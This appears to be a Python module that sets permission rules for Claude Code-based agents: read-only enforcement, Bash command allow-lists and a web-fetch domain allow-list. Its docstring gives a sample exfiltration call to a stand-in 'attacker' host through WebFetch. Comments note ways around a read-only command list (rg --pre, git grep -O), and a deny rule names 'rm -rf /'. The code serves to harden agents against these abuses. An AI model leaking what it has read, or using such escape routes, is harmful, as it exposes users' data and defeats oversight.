"""The agents a task can run as: three built-ins (brain, planning, executor) and any defined at run time.

A built-in's definition here is its default; the registry may hold an edited copy (reset = delete the copy).
Each built-in's instructions live in the runner image as Claude Code files (`.claude/CLAUDE.md`); `instructions`
in the registry are appended to them. Permission rules are enforced by CLI flags, not by words.

The built-in brain and planning agents are read-only whatever the registry says (`enforce`, applied to every
spec `get_agent` and `list_agents` return, so to every run): permission mode `dontAsk` or `plan` (anything
else becomes `dontAsk`: what no rule allows is denied), the write tools always in `--disallowedTools` and never
in `--allowedTools`, and Bash only through read-only allow rules (`Bash(git log:*)`, `Bash(ls:*)`, ...; see
READ_ONLY_BASH). Bare `Bash` is never *disallowed* for them, as that would remove the tool and make those allow
rules useless; it is never *allowed* either (that would pre-approve every command).

Their web access is not theirs to choose either (`web_rules`): it is WEB_FETCH_DOMAINS, for every task, from a
webhook or from chat alike. A fetched page is hostile input whoever asked for it, and a fetch is a way out for
whatever the agent has read (`WebFetch https://attacker/?k=<what it read>`). So each listed host becomes one
`WebFetch(domain:<host>)` allow rule (`*.example.com`: its subdomains; `*`: any host); with none listed, WebFetch
and WebSearch are disallowed outright: the tools are removed, which also closes the CLI's own preapproved
documentation hosts, fetched without any rule while the tool exists. WebSearch is allowed only with `*`: the CLI
checks it with no per-domain rule, and its results bring pages from any host. Web rules in the registry's copy
are replaced by these, so a spec read back and saved again (the dashboard does) changes nothing.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from agent_machine.models import AgentSpec, PermissionMode, SkillSpec
from agent_machine.settings import get_settings
from agent_machine.store import registry

BRAIN = "brain"
PLANNING = "planning"
EXECUTOR = "executor"

# Tools that change files: the brain and planning may never use them.
WRITE_TOOLS = ["Edit", "Write", "MultiEdit", "NotebookEdit"]
READ_ONLY_AGENTS = frozenset({"brain", "planning"})
# The tools that reach the network: the read-only agents get them only as WEB_FETCH_DOMAINS says (web_rules).
WEB_TOOLS = ("WebFetch", "WebSearch")
# The skills the runner image ships (runner_container/agents/**/.claude/skills/<name>): a registry skill of the
# same name would overwrite one in the agent's tree, so these names are reserved.
BUILTIN_SKILLS = frozenset({"delegating-work", "writing-a-plan", "opening-a-pull-request"})
READ_ONLY_MODES = frozenset({PermissionMode.DONT_ASK, PermissionMode.PLAN})
# The command prefixes a read-only agent's Bash allow rules may name (`Bash(<prefix>:*)` or `Bash(<prefix> *)`).
# Not `rg` (--pre runs a command) nor `git grep` (-O opens a pager command). The git ones can still write a file
# with --output=<file>; plan mode blocks that, dontAsk cannot tell it from a read.
READ_ONLY_BASH = (
    "git log",
    "git show",
    "git diff",
    "git status",
    "git blame",
    "git ls-files",
    "ls",
    "grep",
    "wc",
    "head",
    "tail",
)
_BASH_RULE = re.compile(r"^Bash\((?P<command>[^()]*)\)$")

BUILTIN_AGENTS: dict[str, AgentSpec] = {
    BRAIN: AgentSpec(
        name=BRAIN,
        description="Routes work: answers simple questions itself, delegates issues and code changes.",
        allowed_tools=["Read", "Glob", "Grep", "mcp__machine"],  # + WebFetch for WEB_FETCH_DOMAINS
        disallowed_tools=list(WRITE_TOOLS),
        permission_mode=PermissionMode.DONT_ASK,
        max_turns=30,
        builtin=True,
    ),
    PLANNING: AgentSpec(
        name=PLANNING,
        description="Analyses an issue, error or ticket and writes PLAN.md; never changes code.",
        allowed_tools=[
            "Read",
            "Glob",
            "Grep",
            "Bash(git log:*)",
            "Bash(git show:*)",
            "Bash(git diff:*)",
            "Bash(git status:*)",
            "Bash(git blame:*)",
            "Bash(ls:*)",
            "Bash(grep:*)",
            "mcp__machine",
        ],
        disallowed_tools=list(WRITE_TOOLS),
        permission_mode=PermissionMode.PLAN,
        max_turns=40,
        builtin=True,
    ),
    EXECUTOR: AgentSpec(
        name=EXECUTOR,
        description="Implements an approved plan on a branch, runs the tests, opens a pull request.",
        allowed_tools=["Read", "Glob", "Grep", "Edit", "Write", "MultiEdit", "Bash"],
        disallowed_tools=["Bash(git push --force:*)", "Bash(rm -rf /:*)"],
        permission_mode=PermissionMode.ACCEPT_EDITS,
        max_turns=120,
        long_running=True,
        builtin=True,
    ),
}


class UnknownAgent(LookupError):
    pass


def _tool_of(rule: str) -> str:
    """The tool a rule is about: `Edit(src/**)` -> Edit."""
    return rule.split("(", 1)[0].strip()


def _is_write_tool(rule: str) -> bool:
    """Edit, Write, ... or a rule scoped to one of them (`Edit(src/**)`)."""
    return _tool_of(rule) in WRITE_TOOLS


def web_rules(domains: Sequence[str]) -> tuple[list[str], list[str]]:
    """(allow rules, disallowed tools) of the read-only agents' web access for these domains (see the module's
    docstring). The domains are WEB_FETCH_DOMAINS as the settings validated them: lower-case host names."""
    if "*" in domains:
        return ["WebFetch", "WebSearch"], []
    if not domains:
        return [], list(WEB_TOOLS)
    return [f"WebFetch(domain:{domain})" for domain in domains], ["WebSearch"]


def is_read_only_bash_rule(rule: str) -> bool:
    """`Bash(git log:*)`, `Bash(ls *)`, `Bash(git status)`: a command from READ_ONLY_BASH, nothing chained."""
    found = _BASH_RULE.match(rule.strip())
    if found is None:
        return False
    command = found.group("command").strip()
    for suffix in (":*", " *"):
        if command.endswith(suffix):
            command = command[: -len(suffix)].rstrip()
            break
    if any(ch in command for ch in ";&|<>`$*\n"):
        return False
    return command in READ_ONLY_BASH


def enforce(spec: AgentSpec, web_domains: Sequence[str] | None = None) -> AgentSpec:
    """The spec as it may run: the brain and planning are kept read-only, and their web access is the allow-list
    (`web_domains`, default WEB_FETCH_DOMAINS; see the module's docstring)."""
    if spec.name not in READ_ONLY_AGENTS:
        return spec
    domains = get_settings().web_fetch_domains if web_domains is None else web_domains
    web_allowed, web_disallowed = web_rules(domains)
    allowed = [
        rule
        for rule in spec.allowed_tools
        if not _is_write_tool(rule)
        and _tool_of(rule) not in WEB_TOOLS
        and (not rule.strip().startswith("Bash") or is_read_only_bash_rule(rule))
    ]
    allowed += [rule for rule in web_allowed if rule not in allowed]
    # Bare web tools are the ones this function disallows: a copy saved under another allow-list loses them here.
    disallowed = [rule for rule in spec.disallowed_tools if rule.strip() not in ("Bash", *WEB_TOOLS)]
    disallowed += [tool for tool in (*WRITE_TOOLS, *web_disallowed) if tool not in disallowed]
    mode = spec.permission_mode if spec.permission_mode in READ_ONLY_MODES else PermissionMode.DONT_ASK
    return spec.model_copy(update={"allowed_tools": allowed, "disallowed_tools": disallowed, "permission_mode": mode})


def get_agent(name: str) -> AgentSpec:
    """The agent as it runs now: the registry's copy if any, else the built-in default (enforced either way)."""
    stored = registry.get("agent", name, AgentSpec)
    if stored is not None:
        return enforce(stored.model_copy(update={"builtin": name in BUILTIN_AGENTS}))
    if name in BUILTIN_AGENTS:
        return enforce(BUILTIN_AGENTS[name])
    raise UnknownAgent(name)


def list_agents() -> list[AgentSpec]:
    stored = {a.name: a for a in registry.list_kind("agent", AgentSpec)}
    merged = {**BUILTIN_AGENTS, **stored}
    return [enforce(merged[n].model_copy(update={"builtin": n in BUILTIN_AGENTS})) for n in sorted(merged)]


def skill_applies(skill: SkillSpec, agent: str) -> bool:
    """A skill reaches the agents it names; an empty list (or "*") means every agent."""
    return not skill.agents or agent in skill.agents or "*" in skill.agents


def skills_for(agent: str) -> list[SkillSpec]:
    return [s for s in registry.list_kind("skill", SkillSpec) if skill_applies(s, agent)]
